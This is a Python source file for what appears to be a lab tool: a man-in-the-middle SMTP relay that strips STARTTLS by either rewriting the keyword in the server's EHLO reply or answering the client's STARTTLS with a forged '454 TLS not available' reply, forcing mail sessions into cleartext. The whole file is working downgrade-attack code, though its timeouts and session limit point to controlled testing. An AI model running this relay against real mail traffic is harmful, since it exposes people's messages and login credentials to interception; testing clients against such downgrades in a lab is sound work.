# SPDX-License-Identifier: BSD-3-Clause
"""A STARTTLS-stripping SMTP relay for the mailtap lab.

    mitm.py MODE LISTEN_IP LISTEN_PORT UPSTREAM_IP UPSTREAM_PORT SESSIONS

Relays SESSIONS SMTP connections, line by line, and downgrades them:
  mangle  rewrites the STARTTLS keyword in EHLO replies to XXXXXXXA, as
          some "ESMTP inspection" firewalls do, so the client never sees it;
  454     leaves the EHLO reply alone but answers the client's STARTTLS
          itself with "454 4.7.0 TLS not available due to local problem"
          (the command never reaches the server).
Either way the client goes on in cleartext. Bounded: every socket has a
timeout and the relay exits after SESSIONS connections. Standard library only.
"""
import re
import socket
import sys
import threading

TIMEOUT = 15
REPLY_454 = b"454 4.7.0 TLS not available due to local problem\r\n"


def chunks_of_lines(sock):
    """Yields lists of whole lines, one list per recv() that completed some.

    Forwarding what arrived together as one write keeps the relay from
    splitting a multi-line reply into one TCP segment per line.
    """
    buf = b""
    while True:
        chunk = sock.recv(65536)
        if not chunk:
            if buf:
                yield [buf]
            return
        buf += chunk
        if len(buf) > 1 << 20:
            raise ValueError("line too long")
        if b"\n" in buf:
            head, buf = buf.rsplit(b"\n", 1)
            yield [l + b"\n" for l in head.split(b"\n")]


def server_to_client(up, down, mode):
    try:
        for lines in chunks_of_lines(up):
            if mode == "mangle":
                lines = [re.sub(rb"^(250[ -])STARTTLS(\r?\n)$", rb"\1XXXXXXXA\2", l, flags=re.I)
                         for l in lines]
            down.sendall(b"".join(lines))
    except OSError:
        pass
    finally:
        try:
            down.shutdown(socket.SHUT_WR)
        except OSError:
            pass


def relay(client, upstream_addr, mode):
    up = socket.create_connection(upstream_addr, TIMEOUT)
    t = threading.Thread(target=server_to_client, args=(up, client, mode))
    t.start()
    in_data = False
    try:
        for lines in chunks_of_lines(client):
            fwd = []
            for line in lines:
                cmd = line.strip().upper()
                if in_data:
                    in_data = line.rstrip(b"\r\n") != b"."
                elif mode == "454" and cmd == b"STARTTLS":
                    # Flush what came before, then answer for the server.
                    if fwd:
                        up.sendall(b"".join(fwd))
                        fwd = []
                    client.sendall(REPLY_454)
                    continue
                elif cmd == b"DATA":
                    in_data = True
                fwd.append(line)
            if fwd:
                up.sendall(b"".join(fwd))
    except OSError:
        pass
    finally:
        try:
            up.shutdown(socket.SHUT_WR)
        except OSError:
            pass
    t.join(TIMEOUT)
    up.close()
    client.close()


def main():
    if len(sys.argv) != 7 or sys.argv[1] not in ("mangle", "454"):
        sys.exit(__doc__)
    mode, lip, lport, uip, uport, n = sys.argv[1:]
    fam = socket.AF_INET6 if ":" in lip else socket.AF_INET
    ls = socket.socket(fam, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((lip, int(lport)))
    ls.listen(4)
    ls.settimeout(60)
    print("mitm: listening", flush=True)
    for _ in range(int(n)):
        c, _peer = ls.accept()
        c.settimeout(TIMEOUT)
        relay(c, (uip, int(uport)), mode)
    ls.close()


if __name__ == "__main__":
    main()
